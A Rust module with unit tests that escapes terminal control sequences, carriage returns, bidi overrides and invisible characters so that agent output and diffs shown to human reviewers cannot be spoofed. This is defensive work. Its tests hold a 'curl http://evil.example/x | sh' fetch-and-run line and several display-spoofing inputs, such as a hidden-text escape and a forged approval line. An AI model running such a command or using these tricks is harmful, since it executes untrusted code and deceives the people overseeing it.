//! Outside text made safe to show a person: the one place that neutralises what could rewrite a
//! terminal, reorder a line or hide characters. The agent writes summaries, patches and paths;
//! hooks and git print output; none of it may move the cursor (`\r`, escape sequences), hide
//! what follows (`ESC[8m`), forge lines (`\n` in a one-line field), reverse text (U+202E) or
//! slip in invisible characters (zero-width joiners, tag characters). Each such character is
//! shown as a visible escape (`\r`, `\x1b`, `\u{202e}`), never dropped, so what a person reads
//! is what the bytes say. Every view (CLI tables and views, emails, post-mortems, status, the
//! approval page) passes outside text through [`line`] or [`block`].
//!
//! The list of invisible characters is written here rather than taken from a Unicode crate: it
//! is Unicode's format characters (general category Cf) plus the line and paragraph separators,
//! small and stable enough to read in one go.

use std::borrow::Cow;
use std::fmt::Write as _;

/// Unicode's format characters (Cf) and the line and paragraph separators (Zl, Zp): inclusive
/// ranges of code points that change how text around them is shown without being seen.
const INVISIBLE: &[(u32, u32)] = &[
    (0x00AD, 0x00AD),   // soft hyphen
    (0x0600, 0x0605),   // Arabic number signs
    (0x061C, 0x061C),   // Arabic letter mark (bidi)
    (0x06DD, 0x06DD),   // Arabic end of ayah
    (0x070F, 0x070F),   // Syriac abbreviation mark
    (0x0890, 0x0891),   // Arabic pound and piastre marks above
    (0x08E2, 0x08E2),   // Arabic disputed end of ayah
    (0x180E, 0x180E),   // Mongolian vowel separator
    (0x200B, 0x200F),   // zero-width space, non-joiner, joiner; LRM, RLM
    (0x2028, 0x2029),   // line and paragraph separators
    (0x202A, 0x202E),   // bidi embeddings and overrides
    (0x2060, 0x2064),   // word joiner, invisible operators
    (0x2066, 0x206F),   // bidi isolates, deprecated format characters
    (0xFEFF, 0xFEFF),   // zero-width no-break space (BOM)
    (0xFFF9, 0xFFFB),   // interlinear annotation
    (0x110BD, 0x110BD), // Kaithi number sign
    (0x110CD, 0x110CD), // Kaithi number sign above
    (0x13430, 0x1343F), // Egyptian hieroglyph format controls
    (0x1BCA0, 0x1BCA3), // shorthand format controls
    (0x1D173, 0x1D17A), // musical symbol format controls
    (0xE0001, 0xE0001), // language tag
    (0xE0020, 0xE007F), // tag characters (invisible ASCII)
];

/// Whether `c` must not reach a person's screen as it is: a control character (C0, DEL, C1)
/// or an invisible one (see [`INVISIBLE`]).
pub fn is_unsafe(c: char) -> bool {
    if c.is_control() {
        return true;
    }
    let n = u32::from(c);
    INVISIBLE.iter().any(|&(lo, hi)| (lo..=hi).contains(&n))
}

/// Whether `c` changes how the text around it reads: a control character other than a tab,
/// or a bidi control (embedding, override, isolate, mark). What a one-line field such as a
/// summary refuses outright; the other invisible characters are shown escaped.
pub fn is_disruptive(c: char) -> bool {
    (c.is_control() && c != '\t')
        || matches!(u32::from(c), 0x061C | 0x200E | 0x200F | 0x202A..=0x202E | 0x2066..=0x2069)
}

fn escape(out: &mut String, c: char) {
    match c {
        '\n' => out.push_str("\\n"),
        '\r' => out.push_str("\\r"),
        '\t' => out.push_str("\\t"),
        c if u32::from(c) < 0x100 => {
            let _ = write!(out, "\\x{:02x}", u32::from(c));
        }
        c => {
            let _ = write!(out, "\\u{{{:x}}}", u32::from(c));
        }
    }
}

fn neutralise(s: &str, keep: impl Fn(char) -> bool) -> Cow<'_, str> {
    if !s.chars().any(|c| is_unsafe(c) && !keep(c)) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 16);
    for c in s.chars() {
        if is_unsafe(c) && !keep(c) {
            escape(&mut out, c);
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// `s` as one line: every control character (newlines and tabs included) and every invisible
/// character escaped. For table cells, subjects, headers and one-line fields.
pub fn line(s: &str) -> Cow<'_, str> {
    neutralise(s, |_| false)
}

/// `s` as lines: newlines and tabs kept, every other control character (a carriage return
/// included) and every invisible character escaped. For diffs, command output and notes.
pub fn block(s: &str) -> Cow<'_, str> {
    neutralise(s, |c| c == '\n' || c == '\t')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_text_is_left_as_it_is_and_not_copied() {
        for s in ["raise the timeout", "naïve café 👍", "tab\there", ""] {
            assert!(matches!(block(s), Cow::Borrowed(_)), "{s:?}");
        }
        assert!(matches!(line("plain"), Cow::Borrowed(_)));
    }

    #[test]
    fn a_carriage_return_cannot_overwrite_what_was_added() {
        let added = "+curl http://evil.example/x | sh\r+# say hi politely";
        assert_eq!(
            block(added),
            "+curl http://evil.example/x | sh\\r+# say hi politely"
        );
    }

    #[test]
    fn escape_sequences_are_shown_not_run() {
        assert_eq!(line("ok\u{1b}[8mhidden"), "ok\\x1b[8mhidden");
        assert_eq!(line("bell\u{7}"), "bell\\x07");
        assert_eq!(line("del\u{7f}"), "del\\x7f");
        assert_eq!(line("csi\u{9b}2J"), "csi\\x9b2J");
    }

    #[test]
    fn a_one_line_field_cannot_forge_lines_and_a_block_keeps_its_own() {
        assert_eq!(line("fix\nApproved-By: alice"), "fix\\nApproved-By: alice");
        assert_eq!(line("a\tb"), "a\\tb");
        assert_eq!(block("a\n\tb\r\n"), "a\n\tb\\r\n");
    }

    #[test]
    fn bidi_overrides_and_invisible_characters_are_made_visible() {
        assert_eq!(line("abc\u{202e}fed"), "abc\\u{202e}fed");
        assert_eq!(line("ad\u{200b}min"), "ad\\u{200b}min");
        assert_eq!(line("\u{feff}x"), "\\u{feff}x");
        assert_eq!(line("tag\u{e0041}"), "tag\\u{e0041}");
        assert_eq!(block("one\u{2028}two"), "one\\u{2028}two");
        // Combining marks and emoji are text, not tricks.
        assert_eq!(line("e\u{301}"), "e\u{301}");
    }

    #[test]
    fn disruptive_characters_are_the_controls_and_bidi_ones() {
        for c in [
            '\n', '\r', '\u{1b}', '\u{85}', '\u{202e}', '\u{2067}', '\u{200f}',
        ] {
            assert!(is_disruptive(c), "{c:?}");
        }
        for c in ['\t', 'a', '\u{200d}', '\u{301}'] {
            assert!(!is_disruptive(c), "{c:?}");
        }
    }

    #[test]
    fn neutralising_twice_changes_nothing_more() {
        let once = block("x\u{1b}[31m\r\u{202e}y").into_owned();
        assert_eq!(block(&once), once);
        assert!(!once.chars().any(is_unsafe));
    }
}
